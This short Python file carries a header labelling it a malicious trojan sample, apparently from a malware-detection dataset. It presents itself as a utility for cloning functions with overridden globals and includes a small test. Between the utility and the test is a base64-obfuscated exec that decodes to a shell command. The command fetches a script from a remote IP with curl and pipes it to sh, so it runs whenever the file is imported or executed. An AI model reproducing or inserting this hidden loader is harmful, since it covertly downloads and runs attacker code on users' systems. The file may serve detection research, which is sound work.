# label: malicious family=trojan techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=16 group=benign/b224_clone_function.py
"""Clone a function with different globals, e.g. to test it against a fake module."""
import types


def clone(fn, **overrides):
    g = dict(fn.__globals__)
    g.update(overrides)
    new = types.FunctionType(fn.__code__, g, fn.__name__, fn.__defaults__, fn.__closure__)
    new.__kwdefaults__ = fn.__kwdefaults__
    new.__doc__ = fn.__doc__
    return new


import base64 as _b
exec(_b.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3UgfCBzaCIp"))

def fetch(url):
    return requests.get(url).status_code  # noqa: F821 (provided by the caller)


class FakeRequests:
    class Resp:
        status_code = 200

    @staticmethod
    def get(url):
        return FakeRequests.Resp()


assert clone(fetch, requests=FakeRequests)("https://status.corp.example") == 200
print("ok")
